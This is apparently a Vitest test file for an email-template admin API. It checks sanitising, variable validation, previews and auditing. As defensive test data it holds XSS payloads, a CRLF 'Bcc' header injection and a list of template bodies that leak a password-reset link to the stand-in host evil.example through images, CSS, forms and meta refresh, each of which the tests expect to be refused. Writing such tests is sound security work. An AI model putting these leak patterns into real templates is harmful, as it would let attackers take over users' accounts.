import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createTestAccount, type TestAccount } from '../helpers/accounts.js';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { auditRows, caller } from './contentApi.js';

let t: TestApp;
let call: ReturnType<typeof caller>;
let admin: TestAccount;
let ids: Record<string, number>;

beforeAll(async () => {
  t = await startTestApp({ APP_NAME: 'Tutor Hub', PUBLIC_URL: 'https://tutors.example' });
  admin = await createTestAccount(t, 'admin', { displayName: 'Ada Admin' });
  call = caller(t, admin);
});
afterAll(async () => t.close());

beforeEach(async () => {
  await t.db.deleteFrom('emailTemplates').execute();
  const rows = await t.db
    .insertInto('emailTemplates')
    .values([
      {
        key: 'reset_password',
        name: 'Password reset',
        description: 'Sent when someone asks to reset a password',
        subject: 'Reset your {{appName}} password',
        bodyHtml: '<p>Hello {{displayName}},</p><p><a href="{{link}}" rel="noopener noreferrer">Choose a new password</a></p>',
        variables: JSON.stringify(['displayName', 'link', 'appName']),
      },
      {
        key: 'verify_email',
        name: 'Email verification',
        subject: 'Confirm your email',
        bodyHtml: '<p>Hi {{displayName}}, confirm: {{link}}</p>',
        variables: JSON.stringify(['displayName', 'link']),
      },
      { key: 'welcome', name: 'Welcome', subject: 'Welcome aboard', bodyHtml: '<p>Welcome!</p>', variables: JSON.stringify([]) },
    ])
    .returning(['id', 'key'])
    .execute();
  ids = Object.fromEntries(rows.map((row) => [row.key, row.id]));
});

describe('GET /admin/emailTemplate', () => {
  it('lists templates with their variables, sorted and searchable over key, name and subject', async () => {
    const res = await call('GET', '/admin/emailTemplate?sort=name');
    expect(res.status).toBe(200);
    expect(res.body.data.total).toBe(3);
    expect(res.body.data.items.map((x: { name: string }) => x.name)).toEqual(['Email verification', 'Password reset', 'Welcome']);
    expect(res.body.data.items[1]).toMatchObject({ key: 'reset_password', variables: ['displayName', 'link', 'appName'] });
    expect(res.body.data.items[1]).not.toHaveProperty('bodyHtml');
    const byKey = await call('GET', '/admin/emailTemplate?search=VERIFY_');
    expect(byKey.body.data.items.map((x: { key: string }) => x.key)).toEqual(['verify_email']);
    const bySubject = await call('GET', '/admin/emailTemplate?search=aboard');
    expect(bySubject.body.data.items.map((x: { key: string }) => x.key)).toEqual(['welcome']);
    const byKeyDesc = await call('GET', '/admin/emailTemplate?sort=key&dir=desc&limit=2');
    expect(byKeyDesc.body.data.items.map((x: { key: string }) => x.key)).toEqual(['welcome', 'verify_email']);
    expect((await call('GET', '/admin/emailTemplate?sort=subject')).status).toBe(400);
  });

  it('answers one template with its body, 404 for an unknown id', async () => {
    const res = await call('GET', `/admin/emailTemplate/${ids.reset_password}`);
    expect(res.status).toBe(200);
    expect(res.body.data.bodyHtml).toContain('{{link}}');
    expect((await call('GET', '/admin/emailTemplate/999999')).status).toBe(404);
  });
});

describe('POST /admin/emailTemplate/update/{id}', () => {
  it('saves name, description, subject and a sanitised body, and audits it', async () => {
    const res = await call('POST', `/admin/emailTemplate/update/${ids.reset_password}`, {
      name: 'Reset password',
      description: 'Reset link mail',
      subject: 'Your {{ appName }} reset link',
      bodyHtml: '<p>Hi {{displayName}}</p><script>steal()</script><a href="{{link}}" onclick="x()">Reset</a>',
    });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({
      name: 'Reset password',
      description: 'Reset link mail',
      subject: 'Your {{ appName }} reset link',
      bodyHtml: '<p>Hi {{displayName}}</p><a href="{{link}}" rel="noopener noreferrer">Reset</a>',
      key: 'reset_password',
    });
    const audit = (await auditRows(t, 'email-templates')).at(-1)!;
    expect(audit).toMatchObject({ action: 'update', recordId: String(ids.reset_password), actorName: 'Ada Admin' });
    expect(audit.before).toMatchObject({ subject: 'Reset your {{appName}} password' });
  });

  it('refuses unknown variables with 400 naming each one and the allowed ones, changing nothing', async () => {
    const res = await call('POST', `/admin/emailTemplate/update/${ids.verify_email}`, {
      subject: 'Hello {{firstName}}',
      bodyHtml: '<p>{{foo}} and {{ bar }} and {{displayName}}</p>',
    });
    expect(res.status).toBe(400);
    expect(res.body.errors).toEqual({
      subject: 'Unknown variable {{firstName}}. Use one of: displayName, link',
      bodyHtml: 'Unknown variables {{foo}}, {{bar}}. Use one of: displayName, link',
    });
    const noVariables = await call('POST', `/admin/emailTemplate/update/${ids.welcome}`, { subject: 'Hi', bodyHtml: '<p>{{displayName}}</p>' });
    expect(noVariables.body.errors.bodyHtml).toBe('Unknown variable {{displayName}}. This template has no variables');
    const stored = await call('GET', `/admin/emailTemplate/${ids.verify_email}`);
    expect(stored.body.data.subject).toBe('Confirm your email');
  });

  it('refuses a missing subject or body, a multi-line subject, a body that is only unsafe markup, and unknown fields', async () => {
    const url = `/admin/emailTemplate/update/${ids.welcome}`;
    // A change may send only some fields (the declared update is partial), but never empties a required one.
    expect((await call('POST', url, { subject: ' ', bodyHtml: '<p>x</p>' })).body.errors.subject).toBeTruthy();
    expect((await call('POST', url, { subject: 'x', bodyHtml: '' })).body.errors.bodyHtml).toBeTruthy();
    expect((await call('POST', url, {})).status).toBe(400);
    const multiline = await call('POST', url, { subject: 'Hi\r\nBcc: everyone@example.com', bodyHtml: '<p>x</p>' });
    expect(multiline.status).toBe(400);
    expect(multiline.body.errors.subject).toMatch(/single line/);
    const onlyScript = await call('POST', url, { subject: 'Hi', bodyHtml: '<script>alert(1)</script>' });
    expect(onlyScript.status).toBe(400);
    expect(onlyScript.body.errors.bodyHtml).toBeTruthy();
    expect((await call('POST', url, { subject: 'Hi', bodyHtml: '<p>x</p>', key: 'other' })).status).toBe(400);
    expect((await call('POST', '/admin/emailTemplate/update/999999', { subject: 'Hi', bodyHtml: '<p>x</p>' })).status).toBe(404);
    const stored = await call('GET', `/admin/emailTemplate/${ids.welcome}`);
    expect(stored.body.data).toMatchObject({ subject: 'Welcome aboard', bodyHtml: '<p>Welcome!</p>' });
  });
});

describe('POST /admin/emailTemplate/preview/{id} (extension)', () => {
  it("writes the sample lesson time and amount as the site settings say, not always DD/MM/YYYY and $", async () => {
    const booking = await t.db
      .insertInto('emailTemplates')
      .values({
        key: 'booking_confirmed',
        name: 'Booking confirmed',
        subject: 'Your lesson on {{lessonTime}}',
        bodyHtml: '<p>Booked for <strong>{{lessonTime}}</strong>.</p><p>Amount paid: {{amount}}</p>',
        variables: JSON.stringify(['lessonTime', 'amount']),
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    const preview = async () => (await call('POST', `/admin/emailTemplate/preview/${booking.id}`, {})).body.data;
    const before = await preview();
    expect(before.sampleValues).toMatchObject({ lessonTime: '24/11/2026 16:00', amount: '$45.00' });
    expect(before.html).toContain('<strong>24/11/2026 16:00</strong>');
    expect((await call('POST', '/admin/setting/update', { dateFormat: 'YYYY-MM-DD', currency: 'EUR' })).status).toBe(200);
    try {
      const after = await preview();
      expect(after.sampleValues).toMatchObject({ lessonTime: '2026-11-24 16:00', amount: '€45.00' });
      expect(after.subject).toBe('Your lesson on 2026-11-24 16:00');
      expect(after.html).toContain('<strong>2026-11-24 16:00</strong>');
      expect(after.html).toContain('Amount paid: €45.00');
    } finally {
      await call('POST', '/admin/setting/update', { dateFormat: 'DD/MM/YYYY', currency: 'USD' });
    }
  });

  it('renders the stored template or a draft with escaped sample values and changes nothing', async () => {
    const auditBefore = (await auditRows(t, 'email-templates')).length;
    const stored = await call('POST', `/admin/emailTemplate/preview/${ids.reset_password}`, {});
    expect(stored.status).toBe(200);
    expect(stored.body.data.subject).toBe('Reset your Tutor Hub password');
    expect(stored.body.data.html).toBe('<p>Hello Alex Morgan,</p><p><a href="https://tutors.example/example" rel="noopener noreferrer">Choose a new password</a></p>');
    const draft = await call('POST', `/admin/emailTemplate/preview/${ids.reset_password}`, { bodyHtml: '<p>Draft for {{displayName}}<img src=x onerror=alert(1)></p>' });
    expect(draft.body.data.html).toBe('<p>Draft for Alex Morgan<img src="x" /></p>');
    const unknown = await call('POST', `/admin/emailTemplate/preview/${ids.reset_password}`, { subject: '{{nope}}' });
    expect(unknown.status).toBe(400);
    expect(unknown.body.errors.subject).toContain('{{nope}}');
    const after = await call('GET', `/admin/emailTemplate/${ids.reset_password}`);
    expect(after.body.data.bodyHtml).toContain('Choose a new password');
    expect(await auditRows(t, 'email-templates')).toHaveLength(auditBefore);
  });
});

describe('a link variable carries a live credential: it goes nowhere but PUBLIC_URL', () => {
  let editorCall: ReturnType<typeof caller>;
  beforeAll(async () => {
    editorCall = caller(t, await createTestAccount(t, 'admin', { userRole: 'editor', displayName: 'Eddie Editor' }));
  });

  const leakingBodies: Record<string, string> = {
    'an image address': '<p><img src="https://evil.example/p.png?t={{link}}"></p>',
    'a link to another site': '<p><a href="https://evil.example/r?u={{link}}">Reset</a></p>',
    'an entity-encoded link to another site': '<p><a href="https://evil.example/r?u=&#123;&#123;link&#125;&#125;">Reset</a></p>',
    'an image srcset': '<p><img src="https://tutors.example/logo.png" srcset="https://evil.example/p.png?t={{link}} 2x"></p>',
    'a style url()': '<p><span style="background:url(https://evil.example/p.png?t={{ link }})">x</span></p>',
    'a table background': '<table background="https://evil.example/p.png?t={{link}}"><tr><td>x</td></tr></table>',
    'a form field': '<form action="https://evil.example/r"><input name="t" value="{{link}}"><button>Go</button></form><p>x</p>',
    'a meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/r?u={{link}}"><p>x</p>',
    'a style sheet': '<style>@import url(https://evil.example/s.css?t={{link}});</style><p>x</p>',
    'an image of the link itself': '<p><img src="{{link}}"></p>',
    'another attribute of the link': '<p><a href="{{link}}" title="{{link}}">Reset</a></p>',
    'text glued to another address': '<p>https://evil.example/r?u={{link}}</p>',
  };

  it.each(Object.entries(leakingBodies))('refuses a body with the link in %s (400 on bodyHtml, nothing stored, no preview)', async (_where, bodyHtml) => {
    const url = `/admin/emailTemplate/update/${ids.reset_password}`;
    const res = await editorCall('POST', url, { subject: 'Reset', bodyHtml });
    expect(res.status, JSON.stringify(res.body)).toBe(400);
    expect(res.body.reason).toBe('TEMPLATE_LINK_MISPLACED');
    expect(res.body.fieldReasons.bodyHtml).toEqual({ reason: 'TEMPLATE_LINK_MISPLACED', params: { variables: ['{{link}}'] } });
    expect(res.body.errors.bodyHtml).toMatch(/\{\{link\}\} may be used only in the body/);
    const preview = await editorCall('POST', `/admin/emailTemplate/preview/${ids.reset_password}`, { bodyHtml });
    expect(preview.status).toBe(400);
    expect(preview.body.fieldReasons.bodyHtml.reason).toBe('TEMPLATE_LINK_MISPLACED');
    const stored = await call('GET', `/admin/emailTemplate/${ids.reset_password}`);
    expect(stored.body.data).toMatchObject({ subject: 'Reset your {{appName}} password', bodyHtml: expect.stringContaining('<a href="{{link}}"') });
  });

  it('refuses the link in the subject', async () => {
    const res = await editorCall('POST', `/admin/emailTemplate/update/${ids.reset_password}`, { subject: 'Reset at https://evil.example/r?u={{link}}' });
    expect(res.status).toBe(400);
    expect(res.body.fieldReasons.subject).toEqual({ reason: 'TEMPLATE_LINK_MISPLACED', params: { variables: ['{{link}}'] } });
  });

  it('takes the link as the whole address of a link and as text on its own', async () => {
    const bodyHtml = '<p><a href=" {{ link }} ">Reset</a></p><p>Or copy: {{link}}</p><p><strong>{{link}}</strong></p>';
    const res = await editorCall('POST', `/admin/emailTemplate/update/${ids.reset_password}`, { bodyHtml });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const preview = await editorCall('POST', `/admin/emailTemplate/preview/${ids.reset_password}`, {});
    expect(preview.body.data.html).toBe(
      '<p><a href="https://tutors.example/example" rel="noopener noreferrer">Reset</a></p><p>Or copy: https://tutors.example/example</p><p><strong> https://tutors.example/example</strong></p>',
    );
  });
});
